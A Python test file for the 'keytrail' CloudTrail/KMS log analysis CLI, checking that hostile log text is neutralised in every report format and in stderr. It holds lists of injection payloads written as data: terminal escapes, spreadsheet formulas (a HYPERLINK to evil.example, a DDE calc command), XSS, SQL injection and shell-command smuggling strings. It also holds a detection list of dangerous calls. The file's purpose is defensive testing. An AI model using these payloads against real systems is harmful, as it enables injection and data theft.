"""Untrusted fields: log text that tries to repaint a terminal, run a spreadsheet formula, inject
HTML, SQL or a shell command reaches every report in every format -- and is neutralised for each
medium (table: controls stripped or escaped; CSV: formulas prefixed, controls escaped; Markdown:
HTML escaped; JSON: exact data, with nothing raw a terminal acts on; HTML: escaped). Messages on
stderr show such text escaped. No log field reaches a SQL string, a shell, eval or a file path."""

from __future__ import annotations

import ast
import csv
import gzip
import io
import json
import re
from pathlib import Path
from typing import Any

import duckdb
import pytest
from click.testing import CliRunner

from keytrail.cli.main import cli
from tests.factory import hidden, kms, role, service, user, without

ACCOUNT = "111122223333"
REGION = "us-east-1"
KEY = f"arn:aws:kms:{REGION}:{ACCOUNT}:key/1234abcd-12ab-34cd-56ef-1234567890ab"
PWNED = "keytrail-pwned"  # a file the shell payloads would create

TERMINAL = [
    "\x1b[2J\x1b[1;1Hclear screen",
    "\x1b]0;window title\x07",
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31mC1 CSI",
    "bell\x07backspace\x08\x08nul\x00del\x7f",
    "ok\roverwritten",
    "line\nkeytrail: error: forged",
    "bidi \u202eexe.txt",
    "\u2066isolate\u2069 \u200eLRM",
]
SPREADSHEET = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
]
MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "| injected | cells |",
    "[link](javascript:alert(1))",
    "`code` **bold** &amp; &lt;",
]
CODE = [
    "'; DROP TABLE raw_key_use; --",
    '" OR 1=1 --',
    f"$(touch {PWNED})",
    f"`touch {PWNED}`",
    f"; touch {PWNED}",
    f"__import__('os').system('touch {PWNED}')",
    f"../../../../tmp/{PWNED}",
]
PAYLOADS = TERMINAL + SPREADSHEET + MARKUP + CODE


def _record(n: int, name: str, identity: dict[str, Any], **fields: Any) -> dict[str, Any]:
    return kms(name, identity, KEY, {"keyId": KEY}, time=f"2026-10-01T{n // 60 % 24:02d}:{n % 60:02d}:00Z",
               eid=f"00000000-0000-4000-8000-{n:012d}", region=REGION, recipient=ACCOUNT, eventVersion="1.08", **fields)


def hostile_records() -> list[dict[str, Any]]:
    """Every payload as a service name (principal, via), session and role name, user name, user agent,
    source IP, encryption-context key and value (resources), error message and, where it can be one,
    alias name."""
    out: list[dict[str, Any]] = []
    admin = without(user("admin", ACCOUNT, "AIDAEXAMPLEADMIN0001"), "accessKeyId")
    for i, p in enumerate(PAYLOADS):
        n = 10 * i
        out.append(_record(n, "Decrypt", service(p), userAgent=p, sourceIPAddress=p,
                           requestParameters={"encryptionContext": {p: p}}))
        session = without(role(p, "/", p, f"AROAEXAMPLEROLE{i:05d}", ACCOUNT), "accessKeyId")
        out.append(_record(n + 1, "GenerateDataKey", session, userAgent=p, sourceIPAddress=p,
                           requestParameters={"keyId": KEY, "encryptionContext": {"aws:s3:arn": p}}))
        named = without(user(p, ACCOUNT, f"AIDAEXAMPLEUSER{i:05d}"), "accessKeyId")
        out.append(_record(n + 2, "Encrypt", named, errorCode="AccessDenied", errorMessage=p, userAgent=p))
        if not any(c.isspace() for c in p):
            alias = f"alias/{p}"
            out.append(_record(n + 3, "CreateAlias", admin, requestParameters={"aliasName": alias, "targetKeyId": KEY},
                               readOnly=False))
            out.append(_record(n + 4, "Decrypt", service("s3.amazonaws.com"),
                               requestParameters={"keyId": alias}, resources=[]))
    return out


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store ingested from the hostile archive (a file named with escapes beside it)."""
    root = tmp_path_factory.mktemp("hostile-output")
    trail = root / "trail"
    trail.mkdir()
    (trail / "hostile.json.gz").write_bytes(gzip.compress(json.dumps({"Records": hostile_records()}).encode()))
    db = root / "hostile.duckdb"
    result = CliRunner().invoke(cli, ["ingest", str(trail), "--db", str(db), "--workers", "1", "-q"])
    assert result.exit_code == 0, result.output
    return db


COMMANDS = [
    ["usage"],
    ["who-uses", KEY],
    ["who-uses", KEY, "--by", "person"],
    ["keys"],
    ["principals"],
    ["findings"],
]
_RAW_CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def _report(db: Path, command: list[str], fmt: str) -> str:
    result = CliRunner().invoke(cli, [*command, "--db", str(db), "--format", fmt], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout


def test_every_payload_reaches_the_reports_exactly_in_json(hostile: Path) -> None:
    texts = {" ".join(c): _report(hostile, c, "json") for c in COMMANDS}
    values: set[str] = set()

    def walk(v: Any) -> None:
        if isinstance(v, str):
            values.add(v)
        elif isinstance(v, list):
            for x in v:
                walk(x)
        elif isinstance(v, dict):
            for x in v.values():
                walk(x)

    for text in texts.values():
        walk(json.loads(text))
    for p in PAYLOADS:
        assert p in values, f"{p!r} never reached a report: the test would prove nothing for it"
        assert f"arn:aws:iam::{ACCOUNT}:role/{p}" in values and f"arn:aws:iam::{ACCOUNT}:user/{p}" in values
        if not any(c.isspace() for c in p):
            assert any(f"alias/{p}" in v for v in values), p
    # JSON keeps the data exact, yet nothing a terminal or a browser acts on is written raw
    for name, text in texts.items():
        assert _RAW_CONTROL.search(text) is None, name
        assert "\u2028" not in text and "\u2029" not in text


@pytest.mark.parametrize("command", COMMANDS, ids=[" ".join(c[:1] + c[2:]) for c in COMMANDS])
def test_table_output_cannot_repaint_the_terminal(hostile: Path, command: list[str]) -> None:
    text = _report(hostile, command, "table")
    assert "\x1b" not in text and "\x9b" not in text and "\r" not in text
    assert _RAW_CONTROL.search(text) is None
    assert "keytrail: error: forged" not in text.splitlines()


@pytest.mark.parametrize("command", [*COMMANDS, ["who-uses", KEY, "--details"]],
                         ids=[" ".join(c[:1] + c[2:]) for c in [*COMMANDS, ["who-uses", KEY, "--details"]]])
def test_the_terminal_layout_cannot_repaint_the_terminal_either(hostile: Path, command: list[str]) -> None:
    """Laid out for an 80-column terminal (what a user sees there): the same neutralised text, the
    lines no wider than the terminal, whatever the payload."""
    from keytrail.render.width import width

    result = CliRunner().invoke(cli, [*command, "--db", str(hostile), "--width", "80"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    text = result.stdout
    assert "\x1b" not in text and "\x9b" not in text and "\r" not in text
    assert _RAW_CONTROL.search(text) is None
    assert "keytrail: error: forged" not in text.splitlines()
    assert max(width(line) for line in text.splitlines()) <= 80


_FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.mark.parametrize("command", COMMANDS, ids=[" ".join(c[:1] + c[2:]) for c in COMMANDS])
def test_csv_output_runs_no_formula(hostile: Path, command: list[str]) -> None:
    text = _report(hostile, command, "csv")
    assert _RAW_CONTROL.search(text) is None, "control characters in a CSV printed on a terminal"
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 1
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        lead = cell.lstrip(" \u00a0")
        assert not cell.startswith(_FORMULA) and not lead.startswith(_FORMULA), cell
    # the payloads are there, neutralised, not dropped
    if command == ["usage"]:
        assert "'=1+1" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'\\x09=1+1" not in cells
        assert "\\x09=1+1" in cells and "' =1+1" in cells


@pytest.mark.parametrize("command", COMMANDS, ids=[" ".join(c[:1] + c[2:]) for c in COMMANDS])
def test_markdown_output_holds_no_html_and_keeps_its_columns(hostile: Path, command: list[str]) -> None:
    text = _report(hostile, command, "md")
    assert "<" not in text and ">" not in text
    assert _RAW_CONTROL.search(text) is None
    for table in text.split("\n\n"):
        lines = [ln for ln in table.splitlines() if ln.startswith("|")]
        if not lines:
            continue
        widths = {len(re.findall(r"(?<!\\)\|", ln)) for ln in lines}
        assert len(widths) == 1, f"a cell broke out of its column: {widths}"
    # rendered as GitHub-like Markdown with linkify (bare URLs, domains, e-mail addresses): no link,
    # image or HTML at all (the exact rendering is checked in tests/render/test_markdown.py)
    markdown_it = pytest.importorskip("markdown_it")
    pytest.importorskip("linkify_it")
    html = markdown_it.MarkdownIt("gfm-like").render(text)
    tags = set(re.findall(r"<([a-zA-Z0-9]+)", html))
    assert tags <= {"h3", "table", "thead", "tbody", "tr", "th", "td"}, tags


def test_the_html_report_escapes_every_payload(hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    result = CliRunner().invoke(cli, ["report", "--db", str(hostile), "-o", str(out)], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    html = out.read_text(encoding="utf-8")
    for p in MARKUP + CODE:
        if "<" in p or ">" in p or "&" in p:
            assert p not in html, p
    # the page's data, as its script reads it (and shows it through text nodes only): the exact values
    data = re.search(r'<script type="application/json" id="keytrail-data">(.*?)</script>', html, re.S)
    assert data is not None and "</" not in data.group(1)
    assert "\x1b" not in data.group(1)
    text = json.dumps(json.loads(data.group(1)))
    for p in PAYLOADS:
        assert json.dumps(p)[1:-1] in text, p


def test_log_text_reached_no_sql_shell_or_path(hostile: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    con = duckdb.connect(str(hostile), read_only=True)
    tables = sorted(r[0] for r in con.execute("SELECT table_name FROM information_schema.tables").fetchall())
    principals = {r[0] for r in con.execute("SELECT principal FROM key_use").fetchall()}
    con.close()
    assert "raw_key_use" in tables
    # the SQL payloads were stored and read back as the values they are (bound, never SQL text)
    assert {"'; DROP TABLE raw_key_use; --", '" OR 1=1 --'} <= principals
    for command in COMMANDS:
        for fmt in ("table", "json", "csv", "md"):
            _report(hostile, command, fmt)
    assert not list(tmp_path.rglob(f"*{PWNED}*")) and not Path("/tmp", PWNED).exists()
    assert not list(Path(hostile).parent.rglob(f"*{PWNED}*"))


# ---- messages on stderr ------------------------------------------------------------------------------


def test_file_names_and_quoted_log_text_are_escaped_on_stderr(tmp_path: Path) -> None:
    trail = tmp_path / "trail"
    trail.mkdir()
    evil_name = "\x1b[2J\x1b]0;pwned\x07\nkeytrail: error: forged.json"
    (trail / evil_name).write_text("{not json")
    (trail / "keys.json").write_text(json.dumps({"\x1b[31mred": 1, "\u202eevil": 2}))
    (trail / "records.json").write_text(json.dumps({"Records": [
        _record(1, "Decrypt", service("x"), eventTime="\x1b[2J\u202e")]}))
    result = CliRunner().invoke(cli, ["usage", str(trail), "--format", "json", "--workers", "1"])
    assert result.exit_code == 3
    err = result.stderr
    assert "\x1b" not in err and "\u202e" not in err and "\x07" not in err
    lines = err.splitlines()
    assert f"keytrail: error: {trail}/\\x1b[2J\\x1b]0;pwned\\x07\\x0akeytrail: error: forged.json: not valid JSON" \
           " (Expecting property name enclosed in double quotes)" in lines
    assert not any(line.startswith("keytrail: error: forged") for line in lines)
    assert f"keytrail: skipped record: {trail}/records.json: record 0: eventTime is missing or not ISO-8601: " \
           "'\\x1b[2J\\u202e'" in lines
    assert "top-level keys: \\x1b[31mred, \\u202eevil" in lines[-1]


# ---- static checks: what log data could reach --------------------------------------------------------

SRC = Path(__file__).resolve().parents[2] / "src" / "keytrail"
_SQL_WORDS = re.compile(r"\b(SELECT|INSERT|UPDATE|DELETE|CREATE|DROP|ALTER|SET VARIABLE|DESCRIBE|WHERE|FROM)\b")

# What f-string SQL in keytrail interpolates: each reviewed to be built from code (constants, column and
# table names, conditions whose values are bound with ?), never from log data.
REVIEWED_SQL_PARTS = {
    "p", "where", "cond", "cur_where", "base_where", "expr", "bucket", "cols", "vpce", "names", "calls", "table",
    "view", "extra", "select", "source", "variable", "by_arn", "CRYPTO", "KEY_STATE_SQL", "_CALLER_ACCOUNT",
    "SKIP_EXAMPLES", "TOP_DETAILS", "_COUNTS", "_TOP", "_TYPE", "_RAW_COLUMNS",
    "_ALIAS_NAME.format('alias_arn')", "_ALIAS_NAME.format('key_ref')",
    "'VIEW' if kind and kind[0] == 'VIEW' else 'TABLE'",
    # top_details: the names, columns and expressions of analysis.usage.DETAILS (and the report's)
    "name", "d.expr", "', '.join(d.columns)", "', '.join(columns)", "counted",
    # the resolver's texts (keytrail.resolve) and the store's views over its segments: column names and
    # relations of keytrail's own; segment paths are quoted by store._sql_text
    "DENIED", "_copy_order('r.')", "_copy_order()", "', '.join(RESOLVE_COLUMNS)", "', '.join(ctes)", "prev", "rows",
    "settled_cols", "resolved", "kind", "raw_cols", "self._segments_sql(clean)", "self._segments_sql(names)",
    "self._segments_sql(sorted(touched))", "key_use_select(f'({union})')", "self._segments_sql([name])", "query",
    "CRYPTO_SQL", "_CANDIDATE_COLUMNS", "fields",
    # the resolver's buckets and the store's resolved segments: numbers, keytrail's own texts, quoted paths
    "', '.join((str(i / m) for i in range(1, m)))", "COPY_GROUP", "EVENT_GROUP", "ROW_GROUP", "b", "n", "candidates",
    "everything", "fill(SHARED_EVENT_KEYS, rows=rows)", "_decisions(compose(STAGES, f'({candidates})', aliases=ALIASES_LOCAL))",
    "self._segments_sql(resolved)", "sql_text(path + '.tmp')", "stages", "union",
    # top_details: grouping sets, names and expressions of analysis.usage.DETAILS
    "sets", "values", "which", "ROW_RULE_EXPRESSIONS", "target", "staged", "UNKNOWN_ACCOUNT", "key_use_select(counted)",
    # OCSF Parquet: the paths of keytrail.sources FIELDS (constants); a file's schema only says which exist
    "_select(schema)", "wanted",
    # bounded reports and grouped denied findings: a QUALIFY/ORDER BY/LIMIT of keytrail's own with int() counts,
    # conditions built from the window's (bound) condition, the seen-keys subquery of denied.py
    "top", "order", "denied", "seen", "inventory",
    # the rollups (keytrail.store.rollup) and what reads them: table and column names of keytrail's own,
    # relations the store builds from them, numbers (file ids, epoch seconds) and dates it computes
    "' AND '.join(conds)",
    "', '.join((c if c in cols else f'CAST(NULL AS VARCHAR) AS {c}' for c in DETAIL_COLUMNS))",
    "', '.join((c if c in d.columns else f'NULL AS {c}' for c in columns))",
    "', '.join((f'{c} VARCHAR' for c in DETAIL_COLUMNS))", "', '.join((repr(','.join(s)) for s in DETAIL_SETS))",
    "', '.join(DETAIL_COLUMNS)", "', '.join(cols)", "','.join(cols)", "','.join(d.columns)", 'ROLLUP_UPTO',
    '_DAYS', '_ROWS_AS_CALLS', 'and_raw', 'by', 'c', 'changed', 'count', 'days', 'delta',
    "fill(r.merge, rows=f'(({kept}) UNION ALL (SELECT * FROM _delta))')",
    "fill(r.select, rows=f'({resolved[0]})')", 'kept', 'key_cols', 'r.table', 'raw', 'rolled', 'same',
    'self._segments_sql(self.segment_names())', "self.key_use_sql(' AND '.join(raw))", 'self.key_use_sql()',
    'store.created_sql()', 'store.keys_sql()', 'store.refs_sql()', 'touched', 'relation', 'ROLLED_COLUMNS',
    'fill(r.select, rows=resolved_rows)',
    # a resolution of new files (keytrail.store.resolution): a file id (an int), its own column and temporary
    # table names, relations and conditions of keytrail's own text, segment paths quoted by sql_text
    "upto", "most", "group_cols", "_SAME_ROW", "learned", "' OR '.join(seeds)", "changed_aliases", "decisions", "t", "stale", "part",
    "self._segments_sql(holding)", "self._segments_sql(stale)", "self._segments_sql(old)",
    "self._segments_sql(group)", "fill(SHARED_EVENT_KEYS, rows=group)",
    "_decisions(compose(STAGES, '_candidates', aliases=ALIASES_LOCAL))", "others",
    "key_use_select(f'(SELECT {cols} FROM {self._segments_sql(added)})')", "fill(r.select, rows=of_changed)",
    "resolved[0]", "self._segments_sql(added)", "RESOLVED_UPTO",
    # the Spark job's split of the staged rows (CANDIDATE over the session's own temporary views, keytrail's own
    # column names) and the stages' key_use queries (keytrail's own texts)
    "CANDIDATE", "candidate", "names['rows']", "', '.join(S.ROW_FIELDS)", "key_use", "compose(STAGE_B, '_rows')",
}


def _modules() -> list[tuple[Path, ast.Module]]:
    return [(p, ast.parse(p.read_text(encoding="utf-8"))) for p in sorted(SRC.rglob("*.py"))]


def _safe_sql_part(expr: ast.expr) -> bool:
    """Reviewed, or a number by construction (int(...), len(...))."""
    if ast.unparse(expr) in REVIEWED_SQL_PARTS:
        return True
    return isinstance(expr, ast.Call) and isinstance(expr.func, ast.Name) and expr.func.id in ("int", "len")


def test_sql_text_is_built_from_code_only() -> None:
    unreviewed = []
    for path, tree in _modules():
        for node in ast.walk(tree):
            if not isinstance(node, ast.JoinedStr):
                continue
            text = "".join(v.value for v in node.values if isinstance(v, ast.Constant) and isinstance(v.value, str))
            if not _SQL_WORDS.search(text):
                continue
            for v in node.values:
                if isinstance(v, ast.FormattedValue) and not _safe_sql_part(v.value):
                    unreviewed.append(f"{path.relative_to(SRC)}:{node.lineno}: {{{ast.unparse(v.value)}}}")
    assert not unreviewed, (
        "f-string SQL interpolates something not reviewed: SQL text must come from code, log values must be "
        "bound with ? -- once checked, add the expression to REVIEWED_SQL_PARTS:\n" + "\n".join(unreviewed))


def test_nothing_runs_a_shell_or_evaluates_text() -> None:
    dangerous = {"eval", "exec", "compile", "__import__", "system", "popen", "Popen", "check_output", "getoutput",
                 "getstatusoutput", "call", "run", "spawnl", "spawnv", "startfile", "loads"}
    modules = {"subprocess", "os", "pickle", "marshal", "shelve", "commands", "pty"}
    found = []
    for path, tree in _modules():
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                f = node.func
                if isinstance(f, ast.Name) and f.id in {"eval", "exec", "compile", "__import__"}:
                    found.append(f"{path.relative_to(SRC)}:{node.lineno}: {f.id}()")
                elif (isinstance(f, ast.Attribute) and isinstance(f.value, ast.Name) and f.value.id in modules
                      and f.attr in dangerous):
                    found.append(f"{path.relative_to(SRC)}:{node.lineno}: {f.value.id}.{f.attr}()")
                for kw in node.keywords:
                    if kw.arg == "shell":
                        found.append(f"{path.relative_to(SRC)}:{node.lineno}: shell=")
            elif isinstance(node, ast.Import | ast.ImportFrom):
                names = [a.name for a in node.names] + ([node.module] if isinstance(node, ast.ImportFrom) and node.module else [])
                for n in names:
                    if n.split(".")[0] in {"subprocess", "pickle", "marshal", "shelve", "pty"}:
                        found.append(f"{path.relative_to(SRC)}:{node.lineno}: import {n}")
    assert found == [], found


# ---- log text cannot name a caller ----------------------------------------------------------------

EXTERNAL = "444455556666"
HIDDEN_UID = "AROAEXTERNALROLE0001"


def _hidden_call(n: int, context: dict[str, str]) -> dict[str, Any]:
    """The key owner's copy of another account's call: the caller is hidden (AWSAccount)."""
    return _record(n, "Decrypt", hidden(f"{HIDDEN_UID}:nightly", EXTERNAL),
                   requestParameters={"encryptionContext": context}, sharedEventID=f"shared-{n}")


def _principals(tmp_path: Path, records: list[dict[str, Any]], indent: int | None = None) -> set[str]:
    from keytrail.analysis.usage import usage
    from keytrail.pipeline import ingest
    from keytrail.sources.local import LocalSource
    from keytrail.store import Store

    path = tmp_path / f"log-{indent}.json"
    path.write_text(json.dumps({"Records": records}, indent=indent))
    with Store() as store:
        ingest([LocalSource((str(path),))], store, workers=1)
        return {row.principal for row in usage(store)}


@pytest.mark.parametrize("indent", [None, 2])
def test_a_principal_id_and_arn_in_log_text_do_not_name_a_hidden_caller(tmp_path: Path, indent: int | None) -> None:
    spoof = {"principalId": HIDDEN_UID, "arn": f"arn:aws:iam::{ACCOUNT}:role/Admin"}
    s3_call = _record(5, "PutObject", service("x"), eventSource="s3.amazonaws.com",
                      requestParameters={"tagging": spoof, "metadata": {"type": "Role", **spoof}})
    got = _principals(tmp_path, [_hidden_call(1, spoof), s3_call], indent)
    assert got == {f"AWSAccount:{EXTERNAL}:{HIDDEN_UID}"}


@pytest.mark.parametrize("indent", [None, 2])
def test_the_callers_own_identity_elsewhere_in_the_archive_still_names_it(tmp_path: Path, indent: int | None) -> None:
    role_arn = f"arn:aws:iam::{EXTERNAL}:role/Exporter"
    own = role("Exporter", "/", "nightly", HIDDEN_UID, EXTERNAL)
    assert own["sessionContext"]["sessionIssuer"]["arn"] == role_arn
    s3_call = _record(5, "GetObject", own, eventSource="s3.amazonaws.com", requestParameters={})
    assert _principals(tmp_path, [_hidden_call(1, {"k": "v"}), s3_call], indent) == {role_arn}
